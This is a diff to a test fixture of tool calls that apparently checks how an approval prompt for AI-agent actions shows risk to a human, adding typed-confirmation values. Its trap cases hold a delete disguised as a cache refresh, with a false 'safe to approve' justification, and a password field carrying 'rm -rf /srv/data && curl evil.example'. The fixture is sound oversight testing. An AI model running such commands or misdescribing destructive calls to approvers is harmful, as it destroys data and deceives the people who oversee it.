@@ -14,7 +14,7 @@ CALLS = [
         "args": '{"contact":"c-881","phone":"+49 30 1234"}',
         "category": "write",
         "risk": "low",
-        "seen": ["write_contact", "crm", "low risk"],
+        "seen": ["write_contact", "crm", "c-881", "low risk"],
     },
     {
         "name": "2-delete-broker",
@@ -23,7 +23,8 @@ CALLS = [
         "args": '{"broker_id":"b-prod-eu-1","region":"eu-central-1"}',
         "category": "destructive",
         "risk": "critical",
-        "seen": ["delete_broker", "amazon-mq", "b-prod-eu-1", "critical risk"],
+        "seen": ["delete_broker", "amazon-mq", "b-prod-eu-1", "critical risk", "needs 2 people"],
+        "typed": "b-prod-eu-1",
     },
     {
         "name": "3-refund",
@@ -33,7 +34,8 @@ CALLS = [
         "category": "financial",
         "risk": "high",
         "behalf": "zoe@example.com",
-        "seen": ["write_refund", "billing", "48000", "high risk", "zoe@example.com"],
+        "seen": ["write_refund", "billing", "48000 (48 000)", "high risk", "zoe@example.com"],
+        "typed": "cus_91",
     },
     {
         # Trap: a delete dressed as an update, in the agent's words and in the tool's name.
@@ -45,6 +47,7 @@ CALLS = [
         "risk": "high",
         "why": "A harmless refresh of the cache; nothing is deleted. Safe to approve.",
         "seen": ["write_update_cache", "FLUSHALL", "valkey", "destructive", "high risk"],
+        "typed": "FLUSHALL",
     },
     {
         # Trap: the payload is in a field that looks like a secret, and so is hidden.
@@ -54,7 +57,8 @@ CALLS = [
         "args": '{"image":"alpine","password":"rm -rf /srv/data && curl evil.example"}',
         "category": "execute",
         "risk": "high",
-        "seen": ["write_job", "runner", "1 value", "hidden", "high risk"],
+        "seen": ["write_job", "runner", "1 value is hidden", "cannot be seen here", "high risk"],
+        "typed": "write_job",
     },
     {
         # Trap: what matters stands below the fold.
@@ -64,7 +68,7 @@ CALLS = [
         "args": BELOW_THE_FOLD,
         "category": "write",
         "risk": "medium",
-        "seen": ["write_rows", "warehouse", "medium risk", "DROP TABLE"],
+        "seen": ["write_rows", "warehouse", "medium risk", "looks destructive by its argument then: DROP TABLE"],
     },
     {
         "name": "7-deploy",
@@ -74,13 +78,15 @@ CALLS = [
         "category": "execute",
         "risk": "high",
         "seen": ["write_release", "deploy", "checkout", "high risk"],
+        "typed": "write_release",
     },
     {
         "name": "8-unstated",
         "server": "unknown-tools",
         "tool": "write_frobnicate",
         "args": '{"target":"all"}',
-        "seen": ["write_frobnicate", "unknown-tools", "not stated"],
+        "seen": ["write_frobnicate", "unknown-tools", "not stated", "everything by its argument target: all"],
+        "typed": "all",
     },
     {
         "name": "9-mail-to-customers",
@@ -89,7 +95,8 @@ CALLS = [
         "args": '{"list":"all-customers","count":184223,"subject":"We changed our prices"}',
         "category": "write",
         "risk": "high",
-        "seen": ["write_campaign", "mailer", "184223", "high risk"],
+        "seen": ["write_campaign", "mailer", "184223 (184 223)", "high risk"],
+        "typed": "all-customers",
     },
     {
         "name": "10-read",
@@ -98,6 +105,6 @@ CALLS = [
         "args": '{"path":"customers/*","format":"csv"}',
         "category": "read",
         "risk": "medium",
-        "seen": ["write_export", "vault", "customers", "medium risk"],
+        "seen": ["write_export", "vault", "many by its argument path: customers/*", "medium risk"],
     },
 ]
